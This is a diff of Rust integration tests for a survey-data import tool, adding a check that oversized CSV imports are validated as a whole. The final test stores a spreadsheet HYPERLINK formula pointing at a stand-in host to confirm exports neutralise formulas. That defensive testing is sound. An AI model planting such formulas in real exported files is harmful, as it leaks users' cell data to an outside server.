@@ -39,7 +39,7 @@ on_both_engines!(district_summary_matches_hand_computed_csv_via_cli, |engine: En
 on_both_engines!(district_summary_matches_hand_computed_csv_via_http, |engine: Engine| async move {
     let app = TestApp::spawn_with(engine, false, |db| async move {
         let set = server::sources::read(&fixture("small")).unwrap();
-        app::ssr::import::import(&db, &set, Default::default(), "test", &|_, _, _| {}).await.unwrap();
+        app::ssr::import::import(&db, set, Default::default(), "test", &|_, _, _| {}).await.unwrap();
     })
     .await;
     for (file, query, _) in CASES {
@@ -267,6 +267,54 @@ on_both_engines!(every_contract_rule_is_reported_precisely_and_nothing_is_writte
     }
 });
 
+/// A survey file larger than the import's chunk (20,000 rows): 14 new communes with a month
+/// each from 1901 to 2020, and one with a single month at the start.
+fn big_survey_file(tail: &str) -> Vec<(&'static str, String)> {
+    let mut units = String::from("code,name,level,parent_code,kind,valid_from,valid_to,successor_code\n");
+    let mut surveys = String::from("unit_code,model_code,period,respondents,satisfied\nCX00,,1950-01,10,5\n");
+    for u in 0..=14 {
+        units.push_str(&format!("CX{u:02},Xã {u},commune,D1,xã,,,\n"));
+    }
+    for u in 1..=14 {
+        for y in 1901..=2020 {
+            for m in 1..=12 {
+                surveys.push_str(&format!("CX{u:02},,{y}-{m:02},{},{}\n", 20 + m, 10 + m));
+            }
+        }
+    }
+    surveys.push_str(tail);
+    vec![("units.csv", units), ("surveys.csv", surveys)]
+}
+
+on_both_engines!(a_survey_file_larger_than_a_chunk_is_checked_as_a_whole, |engine: Engine| async move {
+    let db = imported_fixture(engine).await;
+    let before = tables_snapshot(&db.url);
+    let as_refs = |files: &[(&'static str, String)]| files.iter().map(|(n, b)| (*n, b.clone())).collect::<Vec<_>>();
+    // A duplicate and an overlap of rows that an earlier chunk wrote: lines 20,163 and 20,164
+    // name lines 3 and 2, which the import had checked and written a chunk before.
+    let bad = as_refs(&big_survey_file("CX01,,1901-01,21,10\nCX00,,1950-Q1,20,10\n"));
+    let bad: Vec<(&str, &str)> = bad.iter().map(|(n, b)| (*n, b.as_str())).collect();
+    let out = import_files(&db.url, &bad, &[]);
+    assert!(!out.status.success());
+    assert_eq!(
+        stderr(&out),
+        "surveys.csv:20163: period: duplicate key (CX01, , 1901-01) (first on line 3)\n\
+         surveys.csv:20164: period: 1950-Q1 overlaps 1950-01 of the same unit and model (line 2): its ballots would count twice\n\
+         error: 2 problem(s); nothing was imported\n"
+    );
+    assert_eq!(tables_snapshot(&db.url), before, "a failed run over several chunks wrote nothing");
+
+    let good = big_survey_file("");
+    let good: Vec<(&str, &str)> = good.iter().map(|(n, b)| (*n, b.as_str())).collect();
+    let out = import_files(&db.url, &good, &[]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(stdout(&out), "units: 15 inserted, 0 updated, 0 unchanged\nsurveys: 20161 inserted, 0 updated, 0 unchanged\n");
+    // Again, replacing: every row is found stored, none is taken for a duplicate of itself.
+    let out = import_files(&db.url, &good, &["--update"]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert_eq!(stdout(&out), "units: 0 inserted, 0 updated, 15 unchanged\nsurveys: 0 inserted, 0 updated, 20161 unchanged\n");
+});
+
 on_both_engines!(update_replaces_and_keeps_the_old_value_in_the_audit_log, |engine: Engine| async move {
     use app::ssr::entities::audit_log;
     use sea_orm::EntityTrait;
@@ -323,7 +371,7 @@ on_both_engines!(xlsx_workbook_imports_like_the_csv_folder, |engine: Engine| asy
 on_both_engines!(api_serves_tables_and_figures, |engine: Engine| async move {
     let app = TestApp::spawn_with(engine, false, |db| async move {
         let set = server::sources::read(&fixture("small")).unwrap();
-        app::ssr::import::import(&db, &set, Default::default(), "test", &|_, _, _| {}).await.unwrap();
+        app::ssr::import::import(&db, set, Default::default(), "test", &|_, _, _| {}).await.unwrap();
     })
     .await;
     let units: serde_json::Value = app.get("/api/v1/units?level=district&parent=P1").await.json().await.unwrap();
@@ -412,7 +460,7 @@ on_both_engines!(update_may_move_a_unit_under_a_unit_of_the_same_file, |engine: 
 on_both_engines!(raw_tables_download_over_http_in_the_import_format, |engine: Engine| async move {
     let app = TestApp::spawn_with(engine, false, |db| async move {
         let set = server::sources::read(&fixture("small")).unwrap();
-        app::ssr::import::import(&db, &set, Default::default(), "test", &|_, _, _| {}).await.unwrap();
+        app::ssr::import::import(&db, set, Default::default(), "test", &|_, _, _| {}).await.unwrap();
     })
     .await;
     let r = app.get("/export/adoptions.csv").await;
@@ -433,7 +481,7 @@ on_both_engines!(exports_write_stored_formulas_as_text, |engine: Engine| async m
     // Stored before the rule existed (the import refuses it now): straight into the table.
     let app = TestApp::spawn_with(engine, false, |db| async move {
         let set = server::sources::read(&fixture("small")).unwrap();
-        app::ssr::import::import(&db, &set, Default::default(), "test", &|_, _, _| {}).await.unwrap();
+        app::ssr::import::import(&db, set, Default::default(), "test", &|_, _, _| {}).await.unwrap();
         db.execute_unprepared(
             "UPDATE units SET name = '=HYPERLINK(\"http://x.example/?\"&B2,\"Xem\")' WHERE code = 'D2'",
         )
